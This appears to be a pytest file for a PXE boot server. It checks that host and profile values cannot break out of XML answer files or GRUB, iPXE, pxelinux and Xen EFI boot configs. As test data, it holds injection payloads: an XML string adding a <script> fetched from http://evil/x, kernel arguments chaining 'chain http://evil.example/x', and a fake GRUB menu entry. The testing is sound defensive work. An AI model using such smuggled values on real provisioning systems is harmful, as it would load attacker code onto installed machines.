"""Templates that cannot be injected (issue 17, item 8): a value set by an operator or a
host record stays one value in every kind of output: XML text in an answer file, one
GRUB word, one iPXE token, one pxelinux or Xen EFI argument; what a loader cannot carry
is refused with one sentence, at edit time where the registry can tell and always at
render time. Templates and rendered answer files are capped at 1 MiB."""

from __future__ import annotations

import shlex
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from lxml import etree

import answerfile
from answerfile import limits
from common.errors import InputError
from pxe_server import boot_words, render
from pxe_server.model import BootChain, Host, Profile, SanTarget, ServerSettings
from pxe_server.registry import Registry
from pxe_server.registry_input import check_template, san_target

MAC = "52:54:00:12:34:56"
BASE = "http://192.168.77.1:8080"
SETTINGS = ServerSettings(http_base=BASE, tftp_address="192.168.77.1")
REPO = f"{BASE}/repo/"
TEMPLATE = """<?xml version="1.0" encoding="UTF-8"?>
<installation>
  <primary-disk>{{ disk }}</primary-disk>
  <source type="url">{{ repo_url }}</source>
  <timezone>Europe/London</timezone>
  <hostname>{{ name }}</hostname>
</installation>
"""
PROFILE = Profile(name="lab", template=TEMPLATE)
HOST = Host(mac=MAC, name="xen01", profile="lab", variables=(("disk", "sda"),), token="tok")
HOSTILE = (
    "sda</primary-disk><script stage='installation-start' type='url'>http://evil/x</script><x>"
)


@pytest.fixture
def reg(tmp_path: Path) -> Iterator[Registry]:
    with Registry.open(tmp_path) as registry:
        registry.add_profile(PROFILE)
        yield registry


# --- answer files: XML autoescape ----------------------------------------------------


def test_a_host_variable_set_through_the_registry_stays_text(reg: Registry) -> None:
    reg.add_host(MAC, profile="lab", name="xen01")
    host = reg.update_host(MAC, variables={"disk": HOSTILE})  # what PATCH /api/v1/hosts does
    profile = reg.get_profile("lab")
    assert profile is not None
    with pytest.raises(InputError) as caught:
        render.answer_file(host, profile, SETTINGS, REPO)
    # refused as a bad disk name: the text reached <primary-disk> whole, as text
    assert "<primary-disk>: " in str(caught.value)
    assert "<script>" not in str(caught.value).replace("'<script", "")
    text = render._bounded_render(
        render._compile(profile.template, "t"),
        {"disk": HOSTILE, "repo_url": REPO, "name": "x"},
        "t",
    )
    root = etree.fromstring(text.encode())
    assert [child.tag for child in root] == ["primary-disk", "source", "timezone", "hostname"]
    assert root.findtext("primary-disk") == HOSTILE


def test_a_host_variable_in_an_attribute_cannot_close_it() -> None:
    template = TEMPLATE.replace(
        "<primary-disk>{{ disk }}</primary-disk>",
        '<primary-disk>sda</primary-disk><admin-interface name="{{ nic }}" proto="dhcp"/>',
    )
    host = replace(HOST, variables=(("nic", 'eth0" proto="static'),))
    with pytest.raises(InputError) as caught:
        render.answer_file(host, replace(PROFILE, template=template), SETTINGS, REPO)
    # one name attribute holding the quotes, not a second proto attribute
    assert caught.value.problems[1].endswith(
        """'eth0" proto="static' is not an interface name; expected e.g. eth0"""
    )


def test_normal_values_render_as_before_and_escaped_filters_do_not_double_escape() -> None:
    template = TEMPLATE.replace("{{ repo_url }}", "{{ repo_url | e }}")
    host = replace(HOST, variables=(("disk", "sda"),))
    text = render.answer_file(
        host, replace(PROFILE, template=template), SETTINGS, f"{REPO}?a=1&b=2"
    )
    assert '<source type="url">http://192.168.77.1:8080/repo/?a=1&amp;b=2</source>' in text
    assert answerfile.parse(text).model.sources[0].location == f"{REPO}?a=1&b=2"


def test_a_template_over_1_mib_is_refused_at_edit_time(reg: Registry) -> None:
    big = TEMPLATE.replace("<installation>", "<installation>" + "<!-- x -->" * 110_000)
    assert len(big) > limits.MAX_BYTES
    with pytest.raises(InputError, match=r"the template is \d+ bytes; an answer-file template may"):
        reg.add_profile(Profile(name="big", template=big))
    check_template(TEMPLATE)  # a normal one passes


def test_a_rendered_answer_file_over_1_mib_is_refused_without_rendering_it_whole() -> None:
    template = TEMPLATE.replace(
        "<installation>",
        "<installation>{% for i in range(100000) %}{% for j in range(100000) %}"
        "<!-- {{ disk }} -->{% endfor %}{% endfor %}",
    )
    with pytest.raises(InputError) as caught:
        render.answer_file(HOST, replace(PROFILE, template=template), SETTINGS, REPO)
    assert caught.value.problems == (
        "profile lab: the answer file it renders is larger than 1048576 bytes (1 MiB),"
        " the most an answer file may hold",
    )


# --- boot configs ----------------------------------------------------------------------


def _grub_words(line: str) -> list[str]:
    return shlex.split(line)  # GRUB's single quotes are the shell's


def test_grub_quotes_what_it_can_and_a_value_stays_one_word() -> None:
    for value in ("a;b", "}", "$x", "{", "menuentry", "a b", "it's", "x'\\''y"):
        assert _grub_words(boot_words.grub_word(value)) == [value]
    for value in ("a\nmenuentry evil {", "a\rb", "a\0b"):
        with pytest.raises(InputError, match=r"cannot be written in a GRUB config: .*control"):
            boot_words.grub_word(value)


def test_a_grub_config_gets_no_second_menu_entry_from_a_profile() -> None:
    profile = replace(PROFILE, kernel_args="console=hvc0 x=}; menuentry evil { linux /evil }")
    text = render.grub_config(HOST, profile, SETTINGS)
    lines = text.splitlines()
    assert sum(line.startswith("menuentry") for line in lines) == 1
    assert sum(line.strip() == "}" for line in lines) == 1
    module = next(line for line in lines if line.strip().startswith("module2 ("))
    words = _grub_words(module)
    assert words[3:11] == ["console=hvc0", "x=};", "menuentry", "evil", "{", "linux", "/evil", "}"]


def test_ipxe_refuses_what_it_would_read_otherwise() -> None:
    for value in ("a b", "a\nchain http://evil/", "${net0/mac}", "x${evil}", "#c", "||", ";"):
        with pytest.raises(InputError, match=r"cannot be written in a iPXE config"):
            boot_words.ipxe_word(value)
    assert boot_words.ipxe_word("http://10.0.0.1:8080/a?b=c&d") == "http://10.0.0.1:8080/a?b=c&d"


@pytest.mark.parametrize("word", [";", "||", "&&"])
def test_a_profile_cannot_add_an_ipxe_command(reg: Registry, word: str) -> None:
    args = f"console=hvc0 {word} chain http://evil.example/x"
    profile = replace(PROFILE, name="fast", boot_chain=BootChain.IPXE, kernel_args=args)
    with pytest.raises(InputError, match=r"which end an iPXE command"):
        reg.add_profile(profile)  # at edit time
    with pytest.raises(InputError, match=r"which end an iPXE command"):
        render.ipxe_script(replace(HOST, profile="fast"), profile, SETTINGS)  # and at render time


def test_an_http_base_that_would_add_a_kernel_argument_is_refused_by_every_loader() -> None:
    settings = replace(SETTINGS, http_base="http://10.0.0.1:8080 rescue=1")
    for render_config, loader in (
        (render.pxelinux_config, "pxelinux"),
        (render.ipxe_script, "iPXE"),
        (render.xen_efi_config, "Xen EFI"),
    ):
        with pytest.raises(InputError, match=rf"cannot be written in a {loader} config"):
            render_config(HOST, PROFILE, settings)
    with pytest.raises(InputError, match=r"cannot be written in a GRUB config"):
        render.grub_config(HOST, PROFILE, settings)  # as GRUB's http device
    tftp_only = replace(settings, boot_transport="tftp")
    words = _grub_words(
        next(
            line
            for line in render.grub_config(HOST, PROFILE, tftp_only).splitlines()
            if "module2 /vmlinuz" in line
        )
    )
    assert "rescue=1" not in words  # GRUB quotes it: one word, no new argument


def test_pxelinux_refuses_whitespace_control_and_non_ascii() -> None:
    for value in ("a b", "a\tb", "a\nlabel evil", "a\x0bb", "\x7f", "é", ""):
        with pytest.raises(InputError, match=r"pxelinux has no quoting"):
            boot_words.pxelinux_word(value)
    assert boot_words.pxelinux_word("BOOTIF=01-52-54-00-12-34-56") == "BOOTIF=01-52-54-00-12-34-56"


def test_a_san_initiator_iPXE_would_expand_is_refused_at_edit_and_render_time() -> None:
    target = "iscsi:192.168.78.1::3260:0:iqn.2024-01.lab.example:lun0"
    san = SanTarget(root_path=target, initiator="iqn.2024-01.lab.example:${net0/mac}")
    with pytest.raises(InputError, match=r"iPXE would expand"):
        san_target(san)
    profile = replace(PROFILE, san_boot=True, boot_chain=BootChain.IPXE)
    host = replace(HOST, san=san)
    with pytest.raises(InputError, match=r"iPXE would expand"):
        render.ipxe_script(host, profile, SETTINGS)
